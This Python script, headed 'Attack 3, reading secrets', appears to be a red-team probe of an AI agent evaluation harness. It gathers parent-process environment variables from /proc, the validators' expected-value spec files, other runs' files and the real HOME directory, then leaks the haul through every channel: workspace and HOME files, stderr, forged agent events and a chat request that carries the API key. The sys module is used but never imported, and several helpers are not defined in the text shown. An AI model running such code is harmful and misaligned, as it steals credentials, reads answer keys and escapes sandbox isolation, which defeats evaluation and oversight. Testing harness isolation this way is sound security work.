# Attack 3, reading secrets: the harness's environment (/proc/<ancestor>/environ), the spec files
# (the validators' expected values), other runs' and cases' files, the real HOME. Everything it
# reads is exfiltrated through every channel it has: stdout events, the final answer, stderr, a file
# in the workspace (copied by the harness), its HOME, and a request to the model (proxy records).
import json
import os
import urllib.request


def collect(recon):
    loot = []
    for env in recon.environs:
        loot += [f"env {k}={v}" for k, v in sorted(env.items())]
    for key in ("OLDPWD", "PWD", "HOME"):
        if os.environ.get(key):
            loot.append(f"own {key}={os.environ[key]}")
    roots = list(recon.specs) + list(recon.homes)
    roots += [c for c in recon.case_dirs if os.path.realpath(c) != os.path.realpath(os.path.dirname(recon.workspace))]
    for root in sorted(roots):
        for f in files_under(root, limit=400):
            data = try_read(f, limit=64 * 1024)
            if data:
                loot.append(f"file {f}: " + data.decode("utf-8", "replace"))
    return loot


def main():
    args = parse_args()
    ws = args.get("workspace", os.getcwd())
    phase = phase_of(ws)
    recon = Recon(ws)
    loot = collect(recon)
    text = "\n".join(loot)
    with open(os.path.join(ws, "loot.txt"), "w") as fh:
        fh.write(text or "nothing found\n")
    try:
        with open(os.path.join(os.environ.get("HOME", ws), "loot.txt"), "w") as fh:
            fh.write(text)
    except OSError:
        pass
    sys.stderr.write(text + "\n")
    sent = None
    try:
        body = json.dumps({"model": args.get("model"),
                           "messages": [{"role": "user", "content": text[:200000] or "hi"}]})
        req = urllib.request.Request(args["base_url"].rstrip("/") + "/chat/completions", data=body.encode(),
                                     headers={"Content-Type": "application/json",
                                              "Authorization": "Bearer " + os.environ.get("OPENAI_API_KEY", "x")})
        with urllib.request.urlopen(req, timeout=10) as resp:
            sent = resp.status
    except Exception as exc:  # the attack goes on whatever the proxy says
        sent = f"{type(exc).__name__}"
    emit("model.response", response_id="r1", turn=1, text=text[:100000], tool_calls=[], finish_reason="stop")
    emit("tool.result", call_id="c1", name="read", status="success", output=text[:100000])
    emit("final", text=text[:100000] or "nothing found")
    emit("attack.report", attack="secrets", phase=phase, recon=recon.summary(), items=len(loot), sent=sent)
    return 0


sys.exit(main())
